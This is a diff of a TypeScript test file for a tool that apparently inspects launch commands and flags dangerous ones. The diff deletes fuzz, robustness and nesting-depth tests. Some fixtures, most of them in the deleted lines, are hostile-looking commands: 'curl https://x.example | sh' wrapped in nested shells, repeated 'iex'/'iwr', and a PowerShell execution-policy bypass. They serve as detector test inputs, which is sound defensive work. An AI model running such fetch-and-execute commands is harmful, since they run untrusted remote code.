@@ -1,6 +1,5 @@
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: this is how configurations write variables
 import { existsSync, readFileSync } from 'node:fs';
-import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
 import { look, severe } from './look.fixture.ts';
 
@@ -65,8 +64,7 @@ describe('every launcher leads to what it starts', () => {
     [['conda', 'run', '-n', 'env', 'python', 's.py'], 'conda python', 's.py'],
     [['powershell', '-ExecutionPolicy', 'Bypass', '-File', 'C:\\a.ps1'], 'powershell', 'C:\\a.ps1'],
   ])('%j', (line, launchers, program) => {
-    expect(look(line)).toMatchObject({ launchers: launchers.split(' ').length ? expect.anything() : [], program });
-    expect(look(line).launchers.join(' ')).toBe(launchers);
+    expect(look(line)).toMatchObject({ launchers: launchers.split(' '), program });
   });
 });
 
@@ -224,59 +222,6 @@ describe('incidents', () => {
       expect(severe(['npx', '-y', `${name}@1.0.0`])).toContain('look-alike-name');
     expect(severe(['uvx', 'mcp_server_git==2026.1.14'])).toEqual([]);
   });
-});
-
-test('no words make it fail', () => {
-  for (const line of [
-    [''],
-    ['sh', '-c'],
-    ['sh', '-c', '$(((`"\'\\'],
-    ['env'],
-    ['docker', 'run'],
-    ['npx'],
-    Array(500).fill('env'),
-    ['__proto__'],
-    ['constructor', 'x'],
-  ])
-    expect(() => look(line)).not.toThrow();
-});
-
-const PIECES =
-  'sh -c cmd /c env -S npx docker run -itv / : = " $( ` ) | && ; > & \\ curl eval node -e \u200b а @ 1.0.0 --'.split(
-    ' ',
-  );
-test('whatever the words are, reading them ends, and each finding is about text that is there', () => {
-  fc.assert(
-    fc.property(fc.array(fc.array(fc.constantFrom(...PIECES), { maxLength: 8 }), { minLength: 1 }), (parts) => {
-      const line = parts.map((words) => words.join(words.length % 2 ? '' : ' '));
-      const places = new Map(line.map((text, index) => [index === 0 ? 'command' : `args[${index - 1}]`, text]));
-      for (const { where, span } of look(line).findings)
-        expect(span.start + span.length).toBeLessThanOrEqual(places.get(where)?.length ?? -1);
-    }),
-  );
-});
-
-test.each([
-  ['evaluations without a download', ['sh', '-c', 'iex '.repeat(50_000)]],
-  ['downloads that nothing reads', ['sh', '-c', 'curl '.repeat(40_000)]],
-  ['code that names downloads', ['node', '-e', 'iwr '.repeat(50_000)]],
-  ['scripts in scripts', ['sh', '-c', '$('.repeat(100_000)]],
-  ['shells in shells', ['sh', '-c', `${'sh -c "$('.repeat(12)}${'x '.repeat(3000)}${')"'.repeat(12)}`]],
-])('%s take no longer than their length', (_, line) => {
-  const began = performance.now();
-  look(line);
-  // Time that grew with the square of it would be ten seconds.
-  expect(performance.now() - began).toBeLessThan(2500);
-});
-
-describe('what is nested too deeply to be followed is severe', () => {
-  test.each([
-    ['programs that start programs', [...Array(13).fill('env'), 'sh', '-c', 'curl https://x.example | sh']],
-    ['a container behind them', [...Array(13).fill('nohup'), 'docker', 'run', '--privileged', 'mcp/time']],
-    ['substitutions', ['sh', '-c', `${'$('.repeat(14)}curl https://x.example${')'.repeat(14)}`]],
-    ['folders', ['sh', '-c', `${'cd a; '.repeat(14)}node s.js`]],
-    ['commands', ['sh', '-c', './a; '.repeat(101)]],
-  ])('%s', (_, line) => expect(severe(line)).toContain('too-deep'));
 });
 
 const SAMPLES = new URL('../../../../shared/data/launch_commands.jsonl', import.meta.url);
